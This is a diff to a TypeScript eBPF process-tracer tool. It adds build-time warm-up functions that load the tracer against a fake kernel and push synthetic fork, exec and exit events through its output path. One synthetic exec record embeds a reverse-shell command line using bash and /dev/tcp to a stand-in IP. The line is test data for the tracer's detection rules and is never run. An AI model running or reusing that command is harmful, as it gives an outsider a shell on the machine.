@@ -13,11 +13,32 @@
 // CO-RE memo tables are WeakMaps keyed by these Btf objects, and the target BTF is
 // passed explicitly, so the loader's own kernel BTF and module BTF caches
 // (src/loader/kernel-btf.ts) are never filled. No bpf() call, no koffi, no open fd.
+//
+// warmUpTraceLoad goes further: it runs the loader itself on the tracer object, as
+// `tsbpf trace` would, against a fake kernel (src/sys/libc.ts withFakeLibc: every bpf()
+// succeeds with a made-up fd, mmap fails so vmlinux BTF is read from the file), then
+// forgets every per-process cache that run filled (feature probes, kernel BTF, the
+// possible-CPU list).
 import { readFileSync } from "node:fs";
 import { Btf } from "./btf/btf.ts";
+import { makeCodec } from "./btf/codec.ts";
+import { parseTraceArgs } from "./cli/trace-options.ts";
+import { loadUserRules, TraceOutput } from "./cli/trace-output.ts";
 import { applyCoreRelocations } from "./core/relocate.ts";
 import { readCollectionSpec } from "./elf/collection.ts";
+import { loadCollectionSync } from "./loader/collection.ts";
+import { forgetFeatureProbes } from "./loader/features.ts";
+import { releaseKernelBtf } from "./loader/kernel-btf.ts";
 import { linkProgram } from "./loader/link.ts";
+import { releaseRunningKernelBtf } from "./loader/program.ts";
+import { forgetPossibleCpus } from "./sys/cpus.ts";
+import { type FakeLibc, withFakeLibc } from "./sys/libc.ts";
+import { EV, makeRecordDecoder } from "./tracker/bpf-decode.ts";
+import type { TraceEvent } from "./tracker/events.ts";
+import { writeEventJson } from "./tracker/json-bytes.ts";
+import { ProcessTable } from "./tracker/process-table.ts";
+import { programsFor, rodataFor } from "./tracker/source.ts";
+import { BPF_BTF_LOAD, BPF_LINK_CREATE, BPF_MAP_CREATE, BPF_OBJ_GET, BPF_PROG_LOAD } from "./uapi.ts";
 
 /** The running kernel's BTF on the build machine; the objects' own BTF when it has none. */
 const BUILD_VMLINUX = "/sys/kernel/btf/vmlinux";
@@ -64,4 +85,202 @@ export function warmUpLoadPath(objects: { name: string; path: string }[]): WarmU
     }
   }
   return { relocations, target: vmlinux ? BUILD_VMLINUX : "each object's own BTF" };
+}
+
+/** bpf() commands that return a new fd (include/uapi/linux/bpf.h). */
+const FD_COMMANDS = new Set<number>([
+  BPF_MAP_CREATE,
+  BPF_PROG_LOAD,
+  BPF_OBJ_GET,
+  BPF_BTF_LOAD,
+  BPF_LINK_CREATE,
+]);
+
+/** Far above any real fd, so a slip (a real close of a fake fd) cannot hit one. */
+const FIRST_FAKE_FD = 1 << 24;
+
+/** A kernel that accepts everything: each fd-returning command gets a fresh fake fd. */
+function fakeKernel(): FakeLibc {
+  let nextFd = FIRST_FAKE_FD;
+  const regions: ArrayBuffer[] = [];
+  const ENODEV = 19;
+  let lastErrno = 0;
+  return {
+    sysBpf: (_nr, cmd) => (FD_COMMANDS.has(cmd) ? nextFd++ : 0),
+    // A map's fd gets memory (global data is mmapped); a real file (vmlinux BTF) gets
+    // ENODEV, so kernel-btf.ts reads it instead.
+    mmapRaw: (_addr, len, _prot, _flags, fd) => {
+      if (fd >= FIRST_FAKE_FD) {
+        regions.push(new ArrayBuffer(len));
+        return regions.length * 0x1000_0000;
+      }
+      lastErrno = ENODEV;
+      return 0xffff_ffff_ffff_ffffn;
+    },
+    munmapRaw: () => 0,
+    viewOf: (addr) => regions[Number(addr) / 0x1000_0000 - 1] as ArrayBuffer,
+    closeRaw: () => 0,
+    errno: () => lastErrno,
+    addressOf: () => 0n,
+  };
+}
+
+/**
+ * Loads the tracer object with `tsbpf trace`'s default options (uncached CO-RE, maps,
+ * global data, relocation, program marshalling) against the fake kernel, closes it, and
+ * forgets what that run cached. Returns the number of programs "loaded"; 0 when the
+ * load failed (compile-only, as above).
+ */
+/** Why the last warmUpTraceLoad loaded nothing, for the build's log. */
+export let lastWarmUpError: string | undefined;
+
+export function warmUpTraceLoad(objectPath: string): number {
+  lastWarmUpError = undefined;
+  let loaded = 0;
+  try {
+    const spec = programsFor(
+      readCollectionSpec(new Uint8Array(readFileSync(objectPath)), `warm-up:${objectPath}`),
+      {},
+    );
+    withFakeLibc(fakeKernel(), () => {
+      const coll = loadCollectionSync(spec, {
+        rodata: rodataFor({}),
+        maps: { scratch: { maxEntries: 2 }, tracked: { maxEntries: 1 } },
+        // Never the persistent CO-RE cache: a fake kernel's results must not be stored.
+        coreCache: false,
+      });
+      loaded = Object.keys(coll.programs).length;
+      coll.close();
+    });
+  } catch (e) {
+    // Shown at build time only (scripts/build-sea.mjs prints it): a failure here costs
+    // start-up speed, never correctness.
+    lastWarmUpError = e instanceof Error ? e.message : String(e);
+    loaded = 0;
+  } finally {
+    forgetFeatureProbes();
+    releaseKernelBtf();
+    releaseRunningKernelBtf();
+    forgetPossibleCpus();
+  }
+  return loaded;
+}
+
+/** One round of a process's life as the kernel side reports it: fork, exec, exit. */
+function syntheticRecords(btf: Btf): { bytes: Uint8Array; records: [number, number][] } {
+  const codec = (name: string) => makeCodec(btf, btf.findByNameKind(name, "struct")[0] as number);
+  const fork = codec("tsbpf_fork_event");
+  const exec = codec("tsbpf_exec_event");
+  const exit = codec("tsbpf_exit_event");
+  const enc = new TextEncoder();
+  const comm = new Uint8Array(16);
+  comm.set(enc.encode("warm-up"));
+  const parent = 4000;
+  const child = 4001;
+  const hdr = (type: number, size: number, pid: number, ppid: number) => ({
+    ts_boot_ns: 1_000_000_000n,
+    cgroup_id: 1n,
+    exec_id: 900_000_000n,
+    parent_exec_id: 800_000_000n,
+    type,
+    size,
+    pid,
+    tid: pid,
+    ppid,
+    uid: 1000,
+    gid: 1000,
+    euid: 1000,
+    pidns_ino: 4026531836,
+    ns_pid: pid,
+    ns_tid: pid,
+    cpu: 0,
+    comm,
+  });
+  const filename = enc.encode("/tmp/.warm-up\0");
+  const args = enc.encode("/tmp/.warm-up\0-c\0bash -i >& /dev/tcp/192.0.2.1/9 0>&1\0");
+  const out: Uint8Array[] = [];
+  const f = new Uint8Array(fork.size);
+  fork.encode({ hdr: hdr(EV.FORK, fork.size, child, parent), parent_pid: parent, parent_tid: parent }, f);
+  out.push(f);
+  const x = new Uint8Array(exec.size + filename.length + args.length);
+  exec.encode(
+    {
+      hdr: hdr(EV.EXEC, x.length, child, parent),
+      old_pid: child,
+      argc: 3,
+      envc: 0,
+      args_size: args.length,
+      env_size: 0,
+      filename_len: filename.length,
+      interp_len: 0,
+      args_len: args.length,
+      env_len: 0,
+      flags: 0,
+    },
+    x,
+  );
+  x.set(filename, exec.size);
+  x.set(args, exec.size + filename.length);
+  out.push(x);
+  const e = new Uint8Array(exit.size);
+  exit.encode(
+    {
+      hdr: hdr(EV.EXIT, exit.size, child, parent),
+      lifetime_ns: 50_000n,
+      status: 0x8b, // killed by SIGSEGV, core dumped
+      flags: 0,
+      exit_signal: 17,
+      _reserved: 0,
+    },
+    e,
+  );
+  out.push(e);
+  const bytes = new Uint8Array(out.reduce((n, r) => n + r.length, 0));
+  const records: [number, number][] = [];
+  let p = 0;
+  for (const r of out) {
+    bytes.set(r, p);
+    records.push([p, r.length]);
+    p += r.length;
+  }
+  return { bytes, records };
+}
+
+/**
+ * The per-event path of `tsbpf trace`, once in JSON and once in text mode: records
+ * decoded from the object's BTF, the process table, the built-in rules, the output
+ * writer (into /dev/null) and the summary. Returns the number of events written.
+ */
+export function warmUpEventPath(objectPath: string): number {
+  lastWarmUpError = undefined;
+  let written = 0;
+  try {
+    const spec = readCollectionSpec(new Uint8Array(readFileSync(objectPath)), `warm-up:${objectPath}`);
+    if (!spec.btf) return 0;
+    const { bytes, records } = syntheticRecords(spec.btf);
+    const dv = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength);
+    for (const mode of [["--json"], []]) {
+      const table = new ProcessTable();
+      table.upsert({ pid: 4000, ppid: 1, exec_id: "4000-80", comm: "warm-up" });
+      const decoder = makeRecordDecoder(spec.btf, { bootToRealtimeNs: 0n, parentOf: (p) => table.get(p) });
+      const cfg = parseTraceArgs([...mode, "-o", "/dev/null"]);
+      const out = new TraceOutput(cfg, loadUserRules(cfg), table, Date.now());
+      for (const [off, len] of records) {
+        const ev = decoder.decode(dv, off, len);
+        if (!ev) continue;
+        table.apply(ev);
+        out.event(ev);
+        written++;
+      }
+      out.flush();
+      out.finish(table);
+    }
+    // The JSON writer keeps its last output buffer (256 KiB) as module state; hand it
+    // an empty one (a write that does not fit is given up) so that the buffer does not
+    // land in the snapshot.
+    writeEventJson(Buffer.alloc(0), 0, 0, { event: "lost", count: 0, kind: "fork" } as unknown as TraceEvent);
+  } catch (e) {
+    lastWarmUpError = e instanceof Error ? e.message : String(e);
+  }
+  return written;
 }
